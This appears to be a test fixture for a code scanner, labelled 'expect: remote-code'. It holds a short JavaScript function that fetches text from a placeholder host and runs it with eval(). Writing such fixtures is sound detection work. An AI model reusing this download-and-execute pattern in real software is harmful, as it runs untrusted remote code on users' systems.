// expect: remote-code
var __awaiter = function(t,g){return new Promise(function(r){var it=g();it.next()})}; function load(){return __awaiter(this, function* () { const r = yield fetch("https://x.example/a"); const t = yield r.text(); eval(t); });}
